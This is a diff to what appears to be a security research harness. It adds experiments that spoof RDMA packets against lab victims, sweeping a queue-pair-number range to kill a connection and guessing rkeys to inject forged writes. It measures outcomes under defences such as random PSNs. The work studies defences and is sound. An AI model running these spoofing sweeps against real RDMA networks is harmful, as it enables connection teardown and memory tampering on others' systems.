@@ -15,6 +15,7 @@ BAD_WRITE = ["--op", "write", "--rkey", "0xbadbad", "--va", "0", "--text", "x"]
 RATE = 20000 if LAB.rxe else ARGUMENTS.rate
 PASSES = 4
 QPN_BITS = 14  # of uroce, in a process; rdma_rxe numbers in order
+QPNS = 256 if LAB.rxe else 1 << QPN_BITS
 
 
 def taken_in(server):
@@ -99,6 +100,45 @@ def securdma(words):
     return server, {"qpn": seen["qpn"], "expected": after(seen["psn"]), "victim": "securdma"}, ended
 
 
+def qpn_range(words, defence, expected):
+    """The QPN is not known either, but where the device has them: all of that range, each with the few PSNs that somebody who starts at 0 can
+    have come to."""
+    server, client, at, _ = LAB.victims(*words)
+    client.say("send 0 genuine")
+    server.must("message")
+    first = at["qpn"] & ~(QPNS - 1)
+    packets, seconds, hit = 0, 0.0, False
+    for _ in range(PASSES if expected == "succeeded" else 1):  # the victim may not take all in
+        sent = LAB.spoof(*BAD_WRITE, "--qpn", f"{first}+{QPNS}", "--psn", "0+4", "--rate", RATE)
+        packets, seconds = packets + sent["packets"], seconds + sent["seconds"]
+        hit = server.event("broken", 1) is not None
+        if hit:
+            break
+    LAB.report("A2 kill the queue pair", "off-path, spoofs", f"the {QPNS:,} QPNs among which the right one is", "plain verbs", defence,
+               f"bad RDMA WRITEs to all of them, with the PSNs 0 to 3, at {RATE}/s", expected, hit, packets=packets, seconds=seconds,
+               note=f"the right one was the {at['qpn'] - first + 1:,}th")
+    LAB.clear()
+
+
+def rkey_guesses(count):
+    """All is known but the rkey, and the victim connects again after each wrong guess, which has ended its connection."""
+    server, client, at, _ = LAB.victims()
+    killed, hit, packets, began = 0, False, 0, time.monotonic()
+    for guess in range(count):
+        sent = LAB.spoof("--op", "write", "--qpn", at["qpn"], "--psn", 0, "--rkey", (at["rkey"] + 0x10001 * (guess + 1)) & 0xffffffff, "--va", at["va"],
+                         "--text", "FORGED!")
+        packets += sent["packets"]
+        killed += server.event("broken", 3) is not None
+        server.say("region 0")
+        hit = hit or server.must("region")["text"].startswith("FORGED!")
+        client.say("again")
+        at = server.must("connected")
+    LAB.report("A1 injection", "off-path, spoofs", "QPN, address, not the rkey", "plain verbs", "PSN 0; random rkey", f"RDMA WRITEs with {count} guessed "
+               "rkeys, the victim connecting again each time", "failed", hit or killed != count, packets=packets, seconds=time.monotonic() - began,
+               note=f"{killed} guesses ended as many connections")
+    LAB.clear()
+
+
 def rkey_guess():
     """Who knows the PSN has one guess at the rkey for each connection."""
     server, client, at, _ = LAB.victims("--random-psn")
@@ -142,6 +182,9 @@ else:
         blind(WIDTH, (), "random PSN; no epochs", "succeeded", securdma)
         LAB.report(NAME, "off-path, spoofs", "QPN", "securdma", "epochs: renewed when a sweep is noticed, or after the kill",
                    "bad RDMA WRITEs with all PSNs", "failed", None, note="this build has no epochs")
+qpn_range((), "none: PSN 0", "succeeded")
+qpn_range(("--random-psn",), "random PSN", "failed")
 rkey_guess()
+rkey_guesses(20 if LAB.short else 500)
 extrapolate(found_rates, swept_plain)
 LAB.end()
